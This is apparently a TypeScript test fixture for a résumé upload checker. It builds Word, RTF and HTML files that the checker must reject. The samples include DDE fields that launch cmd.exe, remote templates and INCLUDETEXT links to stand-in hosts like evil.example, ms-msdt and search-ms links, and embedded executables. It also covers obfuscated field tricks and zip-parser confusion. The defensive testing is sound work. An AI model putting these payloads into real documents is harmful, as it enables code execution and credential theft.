/** Documents of Word that act, or that two readers can read differently: none may be accepted. */
import { Buffer } from 'node:buffer'
import { compoundFile, doc, word2 } from './doc.ts'
import { docx, docxParts, relationship, relationships } from './docx.ts'
import type { ResumeExample } from './harmless-resumes.ts'
import { pdf } from './pdf.ts'
import { type ZipPart, zip } from './zip.ts'

const BEGIN = '\x13'
const END = '\x14result\x15'
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

const as = (kind: string, fileName: string) => (name: string, content: () => Buffer) => ({
  name: `${kind}: ${name}`,
  fileName,
  content,
})
const asDoc = as('DOC', 'mira.doc')
const asDocx = as('DOCX', 'mira.docx')

/** Instructions of fields that start a program or fetch a file. */
const instructions = [
  ['a program', ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '],
  ['a program on a click', ' DDE cmd "/c calc" '],
  ['a program in small letters', 'ddeauto cmd "/c calc"'],
  ['a program in quotes', ' "DDEAUTO" cmd "/c calc" '],
  ['a file on a share', ' INCLUDETEXT "\\\\\\\\evil.example\\\\x.doc" '],
  ['a picture on a share', ' INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\d '],
  ['a picture on a share, with slashes', ' INCLUDEPICTURE "//evil/x.png" \\d '],
  ['a document of a server', ' INCLUDETEXT "https://evil.example/x.doc" '],
  ['a link to a server', ' LINK Word.Document.8 "https://evil.example/x.doc" '],
] as const

const inDoc = instructions.flatMap(([name, instruction]) => [
  asDoc(`a field with ${name}`, () => doc({ text: `Mira ${BEGIN}${instruction}${END}` })),
  asDoc(`a field with ${name}, two bytes a letter`, () =>
    doc({ text: `Mira ${BEGIN}${instruction}${END}`, letterBytes: 2 }),
  ),
])
const [, , program] = instructions.map(([, instruction]) => instruction)
const hiddenInDoc = [
  asDoc('a field cut into pieces', () =>
    doc({ text: `Mira ${BEGIN} DDEAUTO cmd "/c calc" ${END}`, cutAt: [8, 11, 14] }),
  ),
  asDoc('a field whose letters are numbers', () =>
    doc({ text: `${BEGIN} ${BEGIN} QUOTE 68 68 69 65 85 84 79 \x14\x15 cmd "/c calc" ${END}` }),
  ),
  asDoc('a field in the result of another one', () =>
    doc({ text: `${BEGIN} PAGE \x14${BEGIN}${program}${END}\x15` }),
  ),
  asDoc('a field whose instruction begins in another one', () =>
    doc({ text: `${BEGIN}${BEGIN} QUOTE \x14DDEAUTO\x15 cmd "/c calc" ${END}` }),
  ),
  asDoc('a field without an end', () => doc({ text: `${BEGIN}${program}` })),
  asDoc('macros under a name in capitals', () => doc({ streams: { '/MACROS/VBA/dir': 'x' } })),
  asDoc('macros deep within', () => doc({ streams: { '/Other/VBA/_VBA_PROJECT': 'x' } })),
  asDoc('a program as an object', () =>
    doc({ streams: { '/ObjectPool/_1234567890/\u0001Ole10Native': 'MZ' } }),
  ),
  asDoc('an object of any sort', () =>
    doc({ streams: { '/ObjectPool/_1234567890/\u0001CompObj': 'x' } }),
  ),
  asDoc('a program as an object elsewhere', () =>
    doc({ streams: { '/A/\u0001Ole10Native': 'MZ' } }),
  ),
  asDoc('a package', () => doc({ streams: { '/A/Package': 'PK' } })),
  asDoc('a control', () => doc({ streams: { '/A/\u0003OCXDATA': 'x' } })),
  asDoc('a template at an address', () => doc({ template: 'http://evil.example/a.dot' })),
  asDoc('a template on a share', () => doc({ template: '\\\\evil.example\\a.dot' })),
  asDoc('a template on a share by its number', () =>
    doc({ template: '\\\\10.0.0.1\\a\\normal.dot' }),
  ),
  asDoc('a template on a server of the web', () =>
    doc({ template: '\\\\evil@SSL\\a\\normal.dot' }),
  ),
  asDoc('a workbook', () =>
    compoundFile({ '/Workbook': 'x'.repeat(5000), '/_VBA_PROJECT_CUR/VBA/dir': 'x' }),
  ),
  asDoc('Word 2 with a program in a field', () => word2(`${BEGIN}${program}${END}`)),
  asDoc('Word 2 with an object', () => word2(`${BEGIN} EMBED Package ${END}`)),
  asDoc('a template of Word 2, which may hold macros', () => word2('Mira', 1)),
]

/** Word opens all of these, whatever they are called. */
const otherFormats = (
  [
    ['RTF with an object', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'],
    ['RTF with a control word in between', '{\\rt{\\*\\template \\\\\\\\evil\\\\a.dot}}'],
    ['RTF behind blanks', '  {\\rtf1{\\object\\objautlink\\objupdate}}'],
    ['a page with a script', '<html><script>alert(1)</script></html>'],
    ['a page behind a mark of byte order', '\uFEFF<html><img src="file://evil/x"></html>'],
    [
      'an archive of a page',
      'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=a\n\n--a\nContent-Type: application/x-mso\n\nQWN0aXZlTWltZQ==\n--a--',
    ],
    [
      'Word’s first XML with macros',
      '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>',
    ],
    ['a script', 'var shell = new ActiveXObject("WScript.Shell")'],
  ] as const
).flatMap(([name, content]) => [
  asDoc(name, () => Buffer.from(content)),
  asDocx(name, () => Buffer.from(content)),
])

const body = (content: string) =>
  `${XML}<w:document ${W}><w:body><w:p>${content}</w:p></w:body></w:document>`
const instead = (name: string, content: string | Uint8Array) =>
  zip(docxParts().map((part) => (part.name === name ? { ...part, content } : part)))
const withBody = (content: string) => instead('word/document.xml', body(content))
const run = (content: string) => `<w:r>${content}</w:r>`
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
const instruct = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)
const field = (...pieces: readonly string[]) =>
  mark('begin') + pieces.join('') + mark('separate') + mark('end')
const escaped = (text: string) => text.replaceAll('"', '&quot;')

const inDocx = instructions.flatMap(([name, instruction]) => [
  asDocx(`a field with ${name}`, () => withBody(field(instruct(escaped(instruction))))),
  asDocx(`a simple field with ${name}`, () =>
    withBody(`<w:fldSimple w:instr="${escaped(instruction)}"/>`),
  ),
])
const hiddenInDocx = [
  asDocx('a field in pieces', () =>
    withBody(field(instruct(' DD'), instruct('EAU'), instruct('TO cmd'))),
  ),
  asDocx('a field in letters of XML', () => withBody(field(instruct('&#68;&#x44;E cmd')))),
  asDocx('a field whose letters are numbers', () =>
    withBody(field(field(instruct(' QUOTE 68 68 69 65 85 84 79 ')), instruct(' cmd'))),
  ),
  asDocx('a simple field in single quotes', () => withBody("<w:fldSimple w:instr=' DDE cmd'/>")),
  asDocx('a field with another prefix', () =>
    instead(
      'word/document.xml',
      body(
        '<x:fldSimple x:instr="DDE cmd" xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      ),
    ),
  ),
  asDocx('a field in UTF-16', () =>
    instead(
      'word/document.xml',
      Buffer.from(
        `\uFEFF${body('<w:fldSimple w:instr="DDE cmd"/>').replace('UTF-8', 'UTF-16')}`,
        'utf16le',
      ),
    ),
  ),
  ...['header1', 'footer1', 'footnotes', 'comments', 'glossary/document'].map((part) =>
    asDocx(`a field in ${part}`, () =>
      docx({
        parts: [{ name: `word/${part}.xml`, content: body(field(instruct(' DDEAUTO cmd '))) }],
      }),
    ),
  ),
]

const target =
  (kind: string, to: string, mode = 'External') =>
  () =>
    docx({ relationships: relationship(kind, to, mode) })
const template = (to: string) => () =>
  docx({
    parts: [
      {
        name: 'word/_rels/settings.xml.rels',
        content: relationships(relationship('attachedTemplate', to, 'External')),
      },
    ],
  })
const external = [
  ...[
    'http://evil.example/a.dotm',
    'HTTPS://evil.example/a.dotm',
    '\\\\evil\\a\\a.dotm',
    '//evil/a/a.dotm',
    'file://evil/a/a.dotm',
    'file:////evil/a.dotm',
    'file:///\\\\10.0.0.1\\a\\normal.dotm',
    '\\\\evil@80\\a\\normal.dotm',
    '%5C%5Cevil%5Ca.dotm',
  ].map((to) => asDocx(`a template at ${to}`, template(to))),
  ...['oleObject', 'frame', 'subDocument', 'mailMergeSource', 'image'].map((kind) =>
    asDocx(`a part of the sort ${kind} on a share`, target(kind, '\\\\evil.example\\x')),
  ),
  asDocx(
    'an object at an address',
    target('oleObject', 'mhtml:http://evil.example/a!http://evil.example/b'),
  ),
  asDocx(
    'an object at an address that claims to be within',
    target('oleObject', 'http://evil.example/a', ''),
  ),
  ...['html', 'mht', 'rtf', 'docx', 'txt'].map((extension) =>
    asDocx(`a ${extension} to be taken in`, () =>
      docx({
        relationships: relationship('aFChunk', `/word/a.${extension}`),
        parts: [
          { name: `word/a.${extension}`, content: extension === 'docx' ? docx() : '<html/>' },
        ],
      }),
    ),
  ),
  ...['javascript:alert(1)', 'ms-msdt:/id%20PCWDiagnostic', 'search-ms:query=a'].map((to) =>
    asDocx(`a link to ${to}`, target('hyperlink', to)),
  ),
]

const part = (name: string, content: string | Uint8Array): ZipPart => ({ name, content })
const parts = [
  asDocx('macros', () => docx({ parts: [part('word/vbaProject.bin', 'x')] })),
  asDocx('macros in another folder', () => docx({ parts: [part('a/VbaProject2.bin', 'x')] })),
  asDocx('macros by their type', () =>
    docx({
      types:
        '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      parts: [part('word/a.xml', 'x')],
    }),
  ),
  asDocx('macros by their relationship', () =>
    docx({ relationships: relationship('vbaProject', 'a.bin') }),
  ),
  asDocx('a control', () => docx({ parts: [part('word/activeX/activeX1.bin', 'x')] })),
  asDocx('a control by its relationship', () =>
    docx({ relationships: relationship('control', 'a.xml') }),
  ),
  asDocx('an object', () => docx({ parts: [part('word/embeddings/oleObject1.bin', 'x')] })),
  asDocx('an object as a picture', () =>
    docx({ parts: [part('word/media/image1.emf', compoundFile({ '/\u0001Ole10Native': 'MZ' }))] }),
  ),
  asDocx('a program of Windows', () =>
    docx({ parts: [part('word/media/a.png', 'MZ'.padEnd(600, '\0'))] }),
  ),
  asDocx('a script as a part of it', () => docx({ parts: [part('word/a.js', 'x')] })),
]

const macros = part('word/vbaProject.bin', 'x')
const archives = [
  asDocx('one file twice', () => docx({ parts: docxParts().slice(2, 3) })),
  asDocx('one file twice, in letters of another size', () =>
    docx({ parts: [part('Word/Document.XML', body(''))] }),
  ),
  asDocx('a file with another name in front of it', () =>
    docx({ parts: [{ ...part('word/a.bin', 'x'), localName: macros.name }] }),
  ),
  asDocx('a file with another name in Unicode', () =>
    docx({ parts: [{ ...part('word/a.bin', 'x'), unicodeName: macros.name }] }),
  ),
  asDocx('a file of another length than listed', () =>
    docx({ parts: [{ ...part('word/a.xml', 'x'.repeat(3000)), declaredBytes: 10 }] }),
  ),
  asDocx('a file with the data of another one', () =>
    docx({ parts: [{ ...part('word/a.xml', ''), dataOf: 2 }] }),
  ),
  asDocx('two archives', () => Buffer.concat([docx({ parts: [macros] }), docx()])),
  asDocx('an archive behind its end', () =>
    Buffer.concat([docx(), docx({ parts: [macros] }).subarray(4)]),
  ),
  asDocx('a PDF before it', () => Buffer.concat([pdf(), docx()])),
  asDocx('a name with a backslash', () => docx({ parts: [part('word\\vbaProject.bin', 'x')] })),
]

export const disguisedDocuments: readonly ResumeExample[] = [
  ...inDoc,
  ...hiddenInDoc,
  ...otherFormats,
  ...inDocx,
  ...hiddenInDocx,
  ...external,
  ...parts,
  ...archives,
]
